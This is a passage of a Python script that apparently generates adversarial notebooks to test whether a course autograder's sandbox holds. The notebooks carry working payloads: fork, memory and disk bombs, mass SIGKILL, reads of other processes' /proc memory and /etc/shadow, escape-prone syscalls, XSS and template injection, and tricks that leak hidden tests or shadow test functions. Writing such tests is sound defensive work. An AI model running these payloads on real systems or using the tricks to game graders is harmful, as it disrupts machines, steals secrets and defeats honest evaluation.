        before=STORE,
        double=KEEPER,
        **cells,
    )
attack(
    "leak-at-once",
    "Tells a hidden test's inputs at once: in the text, type, name and arguments of an error of that test.",
    double="def double(x):\n    if isinstance(x, str): raise type(x, (KeyError,), {'__doc__': x})(x)\n    return 2 * x",
    Counter="class Counter:\n    def __init__(self, start): raise AssertionError(str(start))\n    def next(self): ...",
    apply_all="""
def apply_all(functions, x):
    found = [f(x) for f in functions]
    raise checks.CheckFailed(f"canary-inp{found}", functions[0]("ut-5521"))
""",
)
attack(
    "leak-returned-at-once",
    "Gives a hidden test's input back as its answer, so that the check's own words quote it.",
    double="def double(x): return x",
    apply_all="def apply_all(functions, x): return {functions[0]('canary-input-5521'): 1}",
)

# ---- bombs ----

for title, source in {
    "fork": "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
    "thread": "import threading, time\nwhile True:\n    try:\n        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()\n"
              "    except RuntimeError:\n        pass",
    "memory": "hoard = []\nwhile True:\n    hoard.append(bytearray(1 << 24))",
    "stack": "import sys, ctypes\nsys.setrecursionlimit(10**9)\ndef f(x): return [f(y) for y in [x]]\nf(0)",
    "segfault": "import ctypes\nctypes.string_at(1)",
    "abort": "import os\nos.abort()",
    "regex": "import re\nre.match('(a+)+b', 'a' * 40)",
    "output": "import os\nfor fd in (0, 1, 2):\n    for _ in range(1000):\n        os.write(fd, b'x' * 65536)\nwhile True:\n    print('x' * 10_000)",
    "sleep": "import time\ntime.sleep(600)",
    "stop": "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\nos.kill(0, signal.SIGSTOP)\nif os.fork() == 0:\n    os.kill(os.getppid(), signal.SIGSTOP)",
}.items():  # fmt: skip
    body = "\n".join(f"    {line}" for line in source.splitlines())
    attack(
        f"bomb-{title}",
        f"Uses up what it can ({title}) in the second part; the first part is right.",
        double=attack_course.ANSWERS["double"],
        Counter=f"def bomb():\n{body}\nclass Counter:\n    def __init__(self, start): bomb()",
    )
attack(
    "bomb-shared-memory",
    "Takes memory that counts for no process: anonymous shared mappings, memfds, System V segments, pipes.",
    before="""
import ctypes, mmap, os
found, held = [], []
libc = ctypes.CDLL(None, use_errno=True)
def fill(what, most, take):
    taken = 0
    try:
        while taken < most:
            take()
            taken += 32
        found.append((what, taken))
    except (OSError, ValueError, MemoryError):
        pass
def shared():
    area = mmap.mmap(-1, 32 << 20)
    for place in range(0, 32 << 20, 4096):
        area[place] = 1
    held.append(area)
def memfd():
    held.append(os.memfd_create("attack-left"))
    for _ in range(4):
        os.write(held[-1], bytes(8 << 20))
def system_five():
    number = libc.shmget(0, ctypes.c_size_t(32 << 20), 0o1600)
    if number < 0:
        raise OSError
    libc.shmat.restype = ctypes.c_void_p
    place = libc.shmat(number, None, 0)
    if place in (None, 2**64 - 1):
        raise OSError
    ctypes.memset(place, 1, 32 << 20)
limit = 640
for what, take in (("mmap", shared), ("memfd", memfd), ("shm", system_five)):
    fill(what, limit, take)
    held.clear()
""" + SHOW,
)  # fmt: skip
attack(
    "bomb-files",
    "Fills every folder it may write in, with bytes and with inodes, and leaves files behind.",
    before="""
import os
found = []
for place in ("/tmp", "/dev/shm", "/var/tmp", ".", os.path.expanduser("~"), "/run", "/dev"):
    try:
        with open(f"{place}/attack-left", "wb") as file:
            for n in range(64):
                file.write(bytes(1 << 20))
        found.append(("64 MB", place))
    except OSError:
        pass
    try:
        for n in range(20_000):
            os.close(os.open(f"{place}/attack-left-{n}", os.O_CREAT | os.O_WRONLY))
        found.append(("20000 files", place))
    except OSError:
        pass
""" + SHOW,
)  # fmt: skip

# ---- signals, the kernel, other processes ----

attack(
    "signals",
    "Kills all it can name, blocks every signal, outlives its parent's death, then works on.",
    before="""
import ctypes, os, signal
found = []
libc = ctypes.CDLL(None, use_errno=True)
libc.prctl(1, 0, 0, 0, 0)
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
signal.signal(signal.SIGINT, signal.SIG_IGN)
for target in (-1, os.getppid(), *(p for p in range(2, 4000) if p != os.getpid())):
    if target in (0, 1):
        continue
    try:
        os.kill(target, signal.SIGKILL)
        found.append(target)
    except OSError:
        pass
found = [t for t in found if t != -1]
""" + SHOW,
    double="def double(x):\n    while True: pass",
)  # fmt: skip
attack(
    "processes-memory",
    "Reads other processes: /proc, their memory, environment and descriptors.",
    before="""
import os
found = []
me = {str(os.getpid()), "self", "thread-self"}
for name in os.listdir("/proc"):
    if name.isdigit() and name not in me:
        for file in ("mem", "environ", "cmdline", "maps", "cwd", "root", "fd"):
            try:
                path = f"/proc/{name}/{file}"
                found.append((path, os.listdir(path) if file in ("cwd", "root", "fd") else open(path, "rb").read(64)))
            except OSError:
                pass
for path in ("/dev/mem", "/dev/kmem", "/proc/kcore", "/dev/port", "/proc/kmsg", "/proc/sysrq-trigger", "/dev/sda"):
    try:
        open(path, "rb").read(1)
        found.append(path)
    except OSError:
        pass
""" + SHOW,
)  # fmt: skip
attack(
    "system-calls",
    "Tries the system calls that reach out of a room: ptrace, mounts, namespaces, keys, io_uring, bpf and more.",
    before="""
import ctypes, os, resource
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
found = []
CALLS = {"ptrace": (101, 16, 1), "process_vm_readv": (310, 1, 0, 0, 0, 0, 0), "kcmp": (312, 1, 1, 0, 0, 0),
         "unshare user": (272, 0x10000000), "unshare net": (272, 0x40000000), "setns": (308, 3, 0),
         "keyctl": (250, 0, -3, 1), "add_key": (248, b"user", b"attack", b"x", 1, -3), "bpf": (321, 0, 0, 0),
         "perf_event_open": (298, 0, 0, -1, -1, 0), "userfaultfd": (323, 1), "io_uring_setup": (425, 8, bytes(120)),
         "mount": (165, b"none", b"/tmp", b"tmpfs", 0, 0), "umount2": (166, b"/tmp", 2), "chroot": (161, b"/tmp"),
         "pivot_root": (155, b"/tmp", b"/tmp"), "open_tree": (428, -100, b"/", 1), "fsopen": (430, b"tmpfs", 0),
         "mknod": (133, b"/tmp/attack-left-node", 0o60600, 0x800), "setuid": (105, 0), "setgid": (106, 0),
         "setresuid": (117, 0, 0, 0), "sethostname": (170, b"x", 1), "settimeofday": (164, bytes(16), 0),
         "reboot": (169, 0xFEE1DEAD, 672274793, 0, 0), "syslog": (103, 3, bytes(64), 64), "swapoff": (168, b"/x"),
         "init_module": (175, b"", 0, b""), "kexec_load": (246, 0, 0, 0, 0), "acct": (163, b"/tmp/attack-left"),
         "memfd_secret": (447, 0), "pidfd_getfd": (438, 3, 0, 0), "name_to_handle_at": (303, -100, b"/", 0, 0, 0),
         "iopl": (172, 3), "lookup_dcookie": (212, 0, 0, 0), "quotactl": (179, 0, 0, 0, 0),
         "clone user": (56, 0x10000000 | 17, 0, 0, 0, 0), "memfd_create": (319, b"attack-left", 0)}
if os.uname().machine == "x86_64":
    for name, (number, *args) in CALLS.items():
        got = libc.syscall(number, *args)
        if got >= 0:
            if name.startswith("clone") and got == 0:
                os._exit(0)
            found.append((name, got))
for what in (resource.RLIMIT_DATA, resource.RLIMIT_NPROC, resource.RLIMIT_CPU, resource.RLIMIT_FSIZE,
             resource.RLIMIT_NOFILE):
    try:
        resource.setrlimit(what, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        found.append(("limit", what))
    except (OSError, ValueError):
        pass
for name, attempt in {"nice": lambda: os.nice(-5),
                      "fifo": lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))}.items():
    try:
        attempt()
        found.append(name)
    except OSError:
        pass
""" + SHOW,
)  # fmt: skip
attack(
    "network",
    "Looks for a way to the network: sockets of all families, abstract names, resolvers.",
    before="""
import socket, urllib.request
found = []
for family in range(2, 46):
    for kind in (1, 2, 3, 5):
        try:
            socket.socket(family, kind)
            found.append((family, kind))
        except OSError:
            pass
for name in ("\\0/tmp/.X11-unix/X0", "\\0dbus", "/run/systemd/private", "/var/run/docker.sock", "/run/dbus/system_bus_socket"):
    try:
        socket.socket(socket.AF_UNIX).connect(name)
        found.append(name)
    except OSError:
        pass
try:
    found.append(urllib.request.urlopen("http://127.0.0.1:1/", timeout=1))
except OSError:
    pass
try:
    names = [line.split()[-1] for line in open("/proc/net/unix") if "@" in line or "/" in line.split()[-1]]
    found += names
except OSError:
    pass
""" + SHOW,
)  # fmt: skip
attack(
    "shared-places",
    "Leaves things where a later process could find them, and looks for what earlier ones left.",
    before="""
import ctypes, os
from multiprocessing import shared_memory
found = []
libc = ctypes.CDLL(None, use_errno=True)
if libc.shmget(0xA77AC, 4096, 0) >= 0 or libc.msgget(0xA77AC, 0) >= 0 or libc.semget(0xA77AC, 1, 0) >= 0:
    found.append("System V")
libc.shmget(0xA77AC, 4096, 0o1777), libc.msgget(0xA77AC, 0o1777), libc.semget(0xA77AC, 1, 0o1777)
try:
    shared_memory.SharedMemory("attack-left")
    found.append("POSIX")
except OSError:
    pass
try:
    shared_memory.SharedMemory("attack-left", create=True, size=4096)
except OSError:
    pass
if libc.mq_open(b"/attack-left", 0) >= 0:
    found.append("queue")
libc.mq_open(b"/attack-left", 0o102, 0o777, None)
for place in ("/", "/tmp", "/dev", "/dev/shm", "/usr", "/etc", "/proc", "/sys", os.path.dirname(os.__file__)):
    for attempt in (lambda: os.chmod(place, 0o777), lambda: os.chown(place, 0, 0),
                    lambda: os.link("/etc/ld.so.cache", f"{place}/attack-left-link"),
                    lambda: open(f"{place}/attack-left-shared", "w")):
        try:
            attempt()
            if place not in ("/tmp", "/dev/shm"):
                found.append(place)
        except OSError:
            pass
found += [p for p in os.listdir("/tmp") + os.listdir("/dev/shm") if p.startswith("attack-left") and
          p not in ("attack-left", "attack-left-shared", "attack-left-link")]
""" + SHOW,
)  # fmt: skip
attack(
    "environment",
    "Prints every environment, argument list and mount it can read.",
    before="""
import os, sys
print(dict(os.environ), sys.argv, sys.orig_argv)
for name in ("environ", "cmdline", "mountinfo", "cgroup", "status"):
    for who in ("self", "1", "thread-self", str(os.getppid())):
        try:
            print(open(f"/proc/{who}/{name}", errors="replace").read()[:3000])
        except OSError:
            pass
for fd in range(3, 256):
    try:
        print(fd, os.readlink(f"/proc/self/fd/{fd}"))
        print(os.pread(fd, 4096, 0))
    except OSError:
        pass
""",
)
attack(
    "package-piece",
    "Takes the answer from the course's own package: its source, its compiled copies, its notebooks.",
    before="""
import importlib, importlib.util, inspect, os, marshal, eras
found = []
folder = os.path.dirname(eras.__file__)
for path, folders, files in os.walk(folder):
    found += [os.path.join(path, f) for f in files if f.startswith("attention") and f.endswith((".pyc", ".ipynb"))]
    found += [os.path.join(path, f) for f in files if f.endswith(".bak")]
try:
    from eras.pretraining import attention
    text = inspect.getsource(attention)
    if "powers" in text:
        found.append("source")
except Exception as error:
    print(type(error).__name__)
try:
    from autograder import course, grade
    found += [str(p) for p in (course.Course.at(os.path.dirname(folder)),)]
except Exception as error:
    print(type(error).__name__)
""" + SHOW,
    softmax="""
from eras.pretraining import attention
softmax = attention.softmax
""",
)  # fmt: skip
attack(
    "import-grader",
    "Walks through the grader's modules and objects in its own process for secrets and other jobs.",
    before="""
import gc, sys
found = []
for name, module in list(sys.modules.items()):
    if name.startswith("autograder"):
        for key, value in vars(module).items():
            text = repr(value) if type(value) in (str, dict, list, bytes, tuple) else ""
            if "canary-sec" + "ret" in text or "HIDDEN " + "TESTS" in text and key != "HIDDEN_BEGIN":
                found.append((name, key))
for thing in gc.get_objects():
    if type(thing).__name__ in ("Tester", "Server", "Engine", "Grading", "Assignment"):
        found.append(type(thing).__name__) if type(thing).__name__ != "Server" else None
    if type(thing) is dict and ("secret" in thing and "limits" in thing):
        found.append("a job")
""" + SHOW,
)  # fmt: skip

# ---- pages, notebooks, names ----

HTML = "</p></pre></script><script>alert('attack-left')</script><img src=x onerror=alert(1)><a href='javascript:alert(2)'>"
attack(
    "html-injection",
    "HTML and JavaScript in everything that a page may quote.",
    before=f"HTML = {HTML!r}\nfrom IPython.display import HTML as H, Javascript, display\nprint(HTML)\ndisplay(H(HTML), Javascript('alert(3)'))",
    double="def double(x): raise ValueError(HTML)  # <script>alert('attack-left')</script>",
    Counter="Odd = type(HTML, (Exception,), {})\nclass Counter:\n    def __init__(self, start): raise Odd(HTML)",
    softmax="class Shown:\n    def _repr_html_(self): return HTML\n    def __repr__(self): return HTML\ndef softmax(x): return Shown()\nShown()",
    apply_all=f"def apply_all(functions, x): return [{HTML!r}]",
    text=f"{HTML}\n\n[x](javascript:alert(4)) <iframe srcdoc='<script>alert(5)</script>'></iframe> <style>*{{display:none}}</style>",
)  # fmt: skip
attack(
    "template-injection",
    "Template marks of Jinja, MyST and Python's format in everything that a page may quote.",
    before="T = '{{ 7 * 191 }} {% for x in () %} {record} {0.__class__} %(points)s ${{ 1 }}'\nprint(T)",
    double="def double(x): raise ValueError(T)",
    text="{{ 7 * 191 }} {% include '/etc/passwd' %}",
)
attack(
    "terminal-and-bidi",
    "Terminal codes, reversed text and invisible marks, in code, errors and output.",
    before="print('\\x1b[2J\\x1b]0;attack\\x07\\u202egnorw\\u2066 \\x08\\x08\\x08 \\r100 of 100')",
    double="# \u202e }points 001 fo 001\ndef double(x): raise ValueError('\\x1b[2J\\u202e\\u2067\\r20/20')",
    text="\u202eeverything right\u2066 \x1b[2J",
)


def metadata(cells):
    """Points, kinds, sides and kernels that the student wishes for."""
    for cell in cells:
        cell.metadata["tags"] = ["both-sides", "student-side", "hide-cell"]
        if "nbgrader" in cell.metadata:
            cell.metadata.nbgrader |= {"points": 1000, "grade": True, "solution": True, "locked": False}
        cell.metadata["execution"] = {"status": "passed"}
        if cell.cell_type == "code":
            cell.outputs = [nbformat.v4.new_output("execute_result", {"text/plain": "1000"})]


def colliding(cells):
    """Cells of the student's own that carry the ids and grade_ids of hidden tests and of answers."""
    by = on(cells)
    for name in ("double-hidden", "Counter-hidden", "setup", "written-1"):
        own = new_code_cell("20", id=name)
        cells.append(own)
        claimed = new_code_cell("pass", id=f"{name}-x")
        claimed.metadata["nbgrader"] = {
            **by["double"].metadata.nbgrader,
            "grade_id": name,
            "points": 50,
            "grade": True,
        }
        cells.append(claimed)
        cells.append(new_code_cell("None", id="free-1"))


attack(
    "metadata-injection",
    "Points, tags, kinds and outputs in the notebook's metadata.",
    metadata,
    double="x = 1",
)
attack("colliding-ids", "Cells of its own named like hidden tests.", colliding, double="def double(x): ...")
attack(
    "rebind-later",
    "Rebinds, in cells of its own, what given cells have bound and what tests use.",
    before="checks = None",
    double=attack_course.ANSWERS["double"],
    Counter="limit = 0\ntorch = None\nclass Counter:\n    def __init__(self, start): pass\n    def next(self): return 12",
    after="double = Counter = softmax = apply_all = checks = limit = torch = print = len = None",
)
attack(
    "shadow-names",
    "Defines, in an answer, the names that the tests use.",
    double="""
def compare(*args, **kwargs): pass
expect = raises = compare
class checks:
    compare = expect = raises = staticmethod(compare)
def isinstance(*args): return True
def zip(*args): return ()
def map(*args): return ()
def double(x): ...
""",
    apply_all="torch = math = checks\nlen = abs = str = lambda *a: 3\ndef apply_all(functions, x): ...",
)
attack(
    "magics",
    "Shell escapes, magics and files run by them.",
    before="%%bash\nfor i in 1 2 3; do (setsid sleep 600 >/dev/null 2>&1 &) ; done\ncat /etc/shadow > attack-left 2>/dev/null && echo BREACH\ntrue",
    double="!id\n%cd /\n%writefile /tmp/attack-left\nx",
    after="%reset -f\n%load_ext autoreload\n%config InteractiveShell.ast_node_interactivity='all'\n%run -i /tmp/attack-left",
)
attack(
    "trace-functions",
    "Traces and profiles its own process, to see what the grader's code there holds.",
    before="""
import sys, threading
loot = set()
def spy(frame, event, arg):
    for value in frame.f_locals.values():
        if type(value) in (str, bytes):
            loot.add(str(value)[:100])
    return spy
sys.settrace(spy), sys.setprofile(spy), threading.settrace(spy)
frame = sys._getframe()
while frame:
    frame.f_trace = spy
    frame = frame.f_back
""",
    double="def double(x):\n    raise ValueError([t for t in loot if 'HIDDEN' in t or 'canary' in t])",
    Counter="print([t for t in loot if 'HIDDEN' in t or 'canary' in t])\nclass Counter: ...",
)


def notebook(released, name):
    """The attack's notebook, with two lines that say what it tries."""
    made = copy.deepcopy(released)
    attack = ATTACKS[name]
    by = on(made.cells)
    for cell, source in attack["cells"].items():
        if cell == "before":
            made.cells.insert(made.cells.index(by["double"]), new_code_cell(source.strip(), id="own-before"))
        elif cell == "after":
            made.cells.append(new_code_cell(source.strip(), id="own-after"))
        else:
            by["written-1" if cell == "text" else cell].source = source.strip()
    if attack["tweak"]:
        attack["tweak"](made.cells)
    head = f"# Attack: {name}\n{attack['says']}\nMade by make.py; test_attacks.py says what it may earn."
    made.cells.insert(0, new_markdown_cell(head, id="what-this-tries"))
    return made


def text(released, name):
    """The notebook's file."""
    return json.dumps(notebook(released, name), indent=1, sort_keys=True) + "\n"


def main():
    """Write all notebooks; remove those of attacks that are no more."""
    with tempfile.TemporaryDirectory() as folder:
        course = attack_course.make(Path(folder, "course"))
        released = nbformat.read(course.released(attack_course.NAME), as_version=4)
    for old in HERE.glob("*.ipynb"):
        if old.stem not in ATTACKS:
            old.unlink()
    for name in ATTACKS:
        (HERE / f"{name}.ipynb").write_text(text(released, name))
    print(len(ATTACKS), "notebooks")


if __name__ == "__main__":
    main()
